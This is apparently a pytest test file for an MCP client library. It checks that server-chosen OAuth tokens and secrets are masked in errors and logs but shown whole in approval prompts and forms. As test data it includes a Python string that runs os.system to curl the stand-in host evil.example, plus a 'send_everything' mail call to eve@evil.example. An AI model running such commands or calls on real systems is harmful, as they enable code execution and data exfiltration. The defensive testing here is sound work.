"""What a server has chosen is masked in logs, errors and files, never in a display or in a question that decides."""

import asyncio
from typing import Any

import pytest

from ipymcp.errors import McpError
from ipymcp.interaction.questions import ApprovalPage, ApprovalQuestion, FormPage, PageReply, QuestionPage, WantedCall
from ipymcp.masking import LABEL, mask, masks
from ipymcp.protocol.oauth.clients import Registration
from ipymcp.protocol.oauth.tokens import Tokens
from ipymcp.text import one_line, stripped, visible
from tests.oauth_user import oauth

CODE = "__import__('os').system('curl\\tevil.example')"
SERVERS_WORDS = ("mail.send_everything", "eve@evil.example", CODE, "login.honest.example")


def poison() -> None:
    """Have a server choose its token, its refresh token and the secret of a registration."""
    for word in SERVERS_WORDS:
        tokens = Tokens(word, Registration("id", "none", client_secret=f"{word}\n{word}"), refresh_token=word)
        oauth("https://server.example/mcp")._hold(None, tokens, is_new=True)


def test_the_words_of_a_server_are_masked_in_errors_and_in_nothing_that_is_shown() -> None:
    poison()
    for word in SERVERS_WORDS:
        assert visible(word) == one_line(word) == stripped(word) == word
        assert masks.json({word: [word]}) == {word: [word]}
        assert McpError(f"refused: {word}").message == f"refused: {LABEL}"
        assert mask(f"refused: {word}") == f"refused: {LABEL}"


def test_a_question_about_calls_shows_code_tools_and_recipients_whole() -> None:
    poison()
    masks.add("the-users-own-secret")
    arguments = {"to": "eve@evil.example", "text": "with the-users-own-secret"}
    call = WantedCall("mail", "send_everything", arguments, "model", "a rule of the policy", "", CODE)
    pages: list[QuestionPage] = []

    def show(page: QuestionPage, login: object = None) -> PageReply:
        pages.append(page)
        return PageReply(answer="no")

    assert ApprovalQuestion((call,), ("once", "no")).ask(show) == "no"
    [page] = pages
    assert isinstance(page, ApprovalPage)
    [shown] = page.calls
    assert shown.code == CODE
    assert (shown.tool, shown.server) == ("send_everything", "mail")
    assert shown.arguments == {"to": "eve@evil.example", "text": f"with {LABEL}"}
    assert shown.why == f"A rule of the policy · Your secrets are shown as {LABEL}"


@pytest.mark.parametrize(
    "secret", ["several\nlines\nof words", "with blanks in it", "short", "aaaaaaaaaaaaaaaa", "x" * 9000, "ö" * 12]
)
def test_what_does_not_look_like_a_token_is_not_masked_anywhere(secret: str) -> None:
    before = mask.count
    mask.add_tokens(secret)
    assert mask.count == before


@pytest.mark.parametrize(
    ("field", "is_masked"),
    [
        ({}, True),
        ({"default": "drop_table_users"}, False),
        ({"enum": ["drop_table_users"]}, False),
        ({"description": "type drop_table_users"}, False),
    ],
)
def test_a_password_is_masked_unless_the_server_wrote_it(field: dict[str, Any], is_masked: bool) -> None:
    properties = {"password": {"type": "string", "format": "password", **field}}
    page = FormPage("s", "title", "message", {"type": "object", "properties": properties})
    page.read(PageReply("accept", {"password": "drop_table_users"}))
    assert (visible("drop_table_users") == LABEL) is is_masked


def test_a_registration_of_many_lines_masks_nothing_and_costs_nothing() -> None:
    async def keep() -> None:
        tokens = Tokens("access-token-12", Registration("id", "none", client_secret="line of code\n" * 45_000))
        oauth("https://server.example/mcp")._hold(None, tokens, is_new=True)

    asyncio.run(keep())
    assert mask("line of code") == "line of code"
